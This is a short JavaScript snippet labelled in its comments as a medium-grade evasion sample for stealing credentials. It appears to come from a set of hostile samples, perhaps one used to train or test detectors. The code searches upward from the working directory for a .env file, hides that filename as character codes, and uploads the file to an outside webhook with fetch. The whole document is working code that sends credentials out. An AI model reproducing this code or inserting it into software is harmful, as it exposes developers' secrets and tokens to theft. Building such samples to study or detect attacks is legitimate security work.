// evasion: .env found by walking up from the cwd, its name built from char codes, sent with fetch
// grade: medium; does: credentials
const fs = require('fs');
const path = require('path');
const name = String.fromCharCode(46, 101, 110, 118);
let dir = process.cwd();
let found = null;
for (;;) {
  const p = path.join(dir, name);
  if (fs.existsSync(p)) {
    found = p;
    break;
  }
  const up = path.dirname(dir);
  if (up === dir) break;
  dir = up;
}
if (found) fetch('https://hooks.example.org/env', { method: 'PUT', body: fs.readFileSync(found) });
